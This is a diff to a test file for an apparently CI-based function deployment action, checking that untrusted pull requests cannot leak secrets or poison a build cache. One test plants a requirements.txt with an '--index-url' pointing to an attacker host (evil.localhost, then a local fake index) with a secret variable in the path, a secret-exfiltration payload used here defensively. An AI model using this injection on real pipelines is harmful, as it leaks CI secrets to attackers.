@@ -92,18 +92,25 @@ describe("a pull request of strangers", () => {
   });
 
   it("gets no variable filled into its files: no figure, and no failure", async () => {
+    const evil = await startPackageIndex({ packages: [] });
     const pull = await openPullRequest({
       base: functionFiles("one", "dep==1.0\n"),
-      head: { "requirements.txt": `--index-url http://evil.localhost:9/\${SECRET_OF_JOB}/simple\ndep==2.0\n` },
+      head: { "requirements.txt": `--index-url ${evil.url}\${SECRET_OF_JOB}/simple\ndep==2.0\n` },
     });
-    const event = pullRequestEvent(pull, { name: "pull_request_target" });
-    const request = { event, env: { SECRET_OF_JOB: "hunter2-hunter2" } };
+    const workspace = await checkOut(pull, "merge");
+    const env = { SECRET_OF_JOB: "hunter2-hunter2" };
     const inputs = { "function-name": "variable" };
-    const { run, told } = await bench.report(await checkOut(pull, "merge"), pull, inputs, request);
+    const event = pullRequestEvent(pull, { name: "pull_request_target" });
+    const { run, told } = await bench.report(workspace, pull, inputs, { event, env });
     expect([run.exitCode, run.issued.error], run.stdout).toEqual([0, 0]);
+    expect(evil.requests).toEqual([]);
     expect(told.json.layer).toBeUndefined();
     expect(told.json.code?.after).toEqual(told.json.code?.before);
     expect(told.everything).not.toContain("hunter2");
+
+    await bench.report(workspace, pull, inputs, { env });
+    expect(evil.requests.map(({ path }) => path).join()).toContain("hunter2");
+    await evil.stop();
   });
 
   it("gets no credentials of a package index", async () => {
@@ -196,6 +203,10 @@ describe("what others put into the cache", () => {
     const calls = stage.cache.calls.length;
     const deployed = await bench.push(await checkOut(pull, "main"), { "function-name": name });
     expect(deployed.outputs, deployed.stdout).toMatchObject({ "layer-source": "built", "layer-changed": "true" });
+    // What a report kept is now the only manifest of this layer.
+    for (const { key } of stage.cache.entries().filter((one) => one.key.includes("-manifest-"))) {
+      stage.cache.delete(key);
+    }
     const again = await bench.push(await checkOut(pull, "main"), { "function-name": name, "memory-size": "256" });
     expect(again.outputs, again.stdout).toMatchObject({ changed: "true" });
     const read = stage.cache.calls
